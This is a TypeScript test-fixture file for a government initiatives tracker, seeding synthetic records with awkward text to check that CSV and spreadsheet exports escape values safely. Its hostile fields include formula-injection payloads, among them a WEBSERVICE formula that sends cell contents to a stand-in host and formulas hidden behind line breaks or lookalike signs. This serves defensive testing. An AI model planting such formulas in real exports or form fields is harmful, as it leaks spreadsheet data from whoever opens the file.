import type { Kysely } from 'kysely';
import { newId } from '../src/db/ids.ts';
import type { Database, NewInitiativeRow } from '../src/db/schema.ts';
import { searchText } from '../src/initiatives/search-text.ts';
import { jsonHeaders, loginAs } from './auth-helpers.ts';
import { type TestApp, updateInitiative } from './test-app.ts';

/** Test-only text that spreadsheets and CSV writers get wrong; none of it is real data. */
export const trickyTexts = [
  '=SUM(A1)',
  '+7 701 000 0000',
  '-x',
  '@cmd',
  '\tstarts with a tab',
  '\rstarts with a carriage return',
  "'already quoted",
  'line\nbreak',
  'crlf\r\ninside',
  'quote "x", comma',
  'semi;colon',
  'Қазақша ёлка',
] as const;

export const trickyOwnerId = 'test-tricky-owner';

/** A made-up initiative row (synthetic = 1) for tests; overrides win. */
export function initiativeRow(id: string, overrides: Partial<NewInitiativeRow> = {}): NewInitiativeRow {
  const at = '2026-01-01T00:00:00.000Z';
  const row: NewInitiativeRow = {
    id,
    parent_id: null,
    kind: 'practice',
    title_ru: `Тестовая инициатива ${id}`,
    title_en: `Test initiative ${id}`,
    title_kk: null,
    summary_ru: 'Тестовое описание',
    summary_en: 'Test summary',
    summary_kk: null,
    owner_id: 'aktobe-maslikhat',
    region: 'KZ-15',
    tags: '[]',
    status: 'proposed',
    progress: 0,
    progress_source: 'status',
    legislative_stage: null,
    target_date: null,
    last_verified_at: null,
    source_document_id: null,
    source_quote: null,
    source_start: null,
    source_end: null,
    sort_key: 1_000_000,
    search_text: '',
    synthetic: 1,
    created_at: at,
    updated_at: at,
    version: 1,
    ...overrides,
  };
  return { ...row, search_text: searchText([row.id, row.title_ru, row.title_en, row.title_kk, row.summary_ru]) };
}

/** One test initiative per tricky text, in every text column, under an owner with a tricky name. */
export async function insertTrickyInitiatives(db: Kysely<Database>): Promise<string[]> {
  await db
    .insertInto('owners')
    .values({ id: trickyOwnerId, name_ru: '=HYPERLINK("x")', name_en: '@owner, "quoted"', name_kk: null })
    .execute();
  const rows = trickyTexts.map((text, index) =>
    initiativeRow(`test-tricky-${index + 1}`, {
      title_ru: text,
      title_en: `${text} (en)`,
      title_kk: index % 2 === 0 ? `${text} (kk)` : null,
      summary_ru: `-${text}`,
      summary_en: text,
      summary_kk: index % 3 === 0 ? text : null,
      owner_id: trickyOwnerId,
      status: index % 2 === 0 ? 'in_progress' : 'stalled',
      progress: index * 7,
      legislative_stage: index === 0 ? 'mazhilis' : null,
      kind: index === 0 ? 'legislation' : 'practice',
      target_date: index === 1 ? '2020-01-01' : null,
      last_verified_at: index === 2 ? '2026-01-01T00:00:00.000Z' : null,
      parent_id: index === 3 ? 'new-engagement-formats' : null,
      source_document_id: index === 4 ? 'senate-aktobe-maslikhat' : null,
      source_quote: index === 4 ? text : null,
      source_start: index === 4 ? 0 : null,
      source_end: index === 4 ? 1 : null,
      sort_key: 1_000_000 + index,
    }),
  );
  await db.insertInto('initiatives').values(rows).execute();
  return rows.map((row) => row.id);
}

export interface ChangeInput {
  initiativeId: string;
  note: string;
  at: string;
  toStatus?: string;
  evidenceUrl?: string | null;
  actor?: string;
}

/** Appends a made-up status change directly in the store. */
export async function insertChange(db: Kysely<Database>, change: ChangeInput): Promise<string> {
  const id = newId(Date.parse(change.at));
  await db
    .insertInto('status_changes')
    .values({
      id,
      initiative_id: change.initiativeId,
      from_status: 'proposed',
      to_status: change.toStatus ?? 'in_progress',
      from_progress: 0,
      to_progress: 25,
      from_stage: null,
      to_stage: null,
      note: change.note,
      evidence_url: change.evidenceUrl ?? null,
      actor: change.actor ?? 'test-official',
      at: change.at,
    })
    .execute();
  return id;
}

/** Appends a made-up change that handed `initiativeId` from the Senate to the Government (a field change of ownerId). */
export async function insertOwnerMove(db: Kysely<Database>, initiativeId: string): Promise<string> {
  const id = await insertChange(db, {
    initiativeId,
    note: 'Handed over to the government.',
    at: '2026-05-01T09:00:00.000Z',
  });
  await db
    .updateTable('status_changes')
    .set({ kind: 'field_change', changes: JSON.stringify([{ field: 'ownerId', from: 'senate', to: 'government' }]) })
    .where('id', '=', id)
    .execute();
  return id;
}

/** Renames an owner in English directly in the store, as another instance's write would (it moves the data generation). */
export async function renameOwnerEn(db: Kysely<Database>, ownerId: string, nameEn: string): Promise<void> {
  await db.updateTable('owners').set({ name_en: nameEn }).where('id', '=', ownerId).execute();
}

/** The status note of the fault report: a bare line break, then a formula. */
export const hostileNote = 'Проверено на месте\n=1+2';

/** Titles and summaries an official can type that hide a formula behind a line break, the other separator, a sign. */
export const hostileInitiative = {
  id: 'hostile-cells',
  kind: 'practice',
  title: { ru: 'Заголовок\r=HYPERLINK("http://e.x")', en: 'x;=WEBSERVICE("http://e.x/?"&A1)' },
  summary: { ru: '＝1+2', en: '@SUM(1)\n-2+3' },
  ownerId: 'senate',
  region: 'KZ-15',
  tags: [],
  noSource: true,
} as const;

/** Records the hostile initiative and a status change with the hostile note, over HTTP as an official would. */
export async function recordHostileCells(app: TestApp): Promise<void> {
  const cookie = await loginAs(app, 'admin');
  const created = await app.fetch('/api/initiatives', {
    method: 'POST',
    headers: jsonHeaders(cookie),
    body: JSON.stringify(hostileInitiative),
  });
  if (created.status !== 201) throw new Error(`create answered ${created.status}: ${await created.text()}`);
  const patched = await updateInitiative(app, cookie, hostileInitiative.id, {
    status: 'in_progress',
    note: hostileNote,
  });
  if (patched.status !== 200) throw new Error(`patch answered ${patched.status}: ${await patched.text()}`);
}
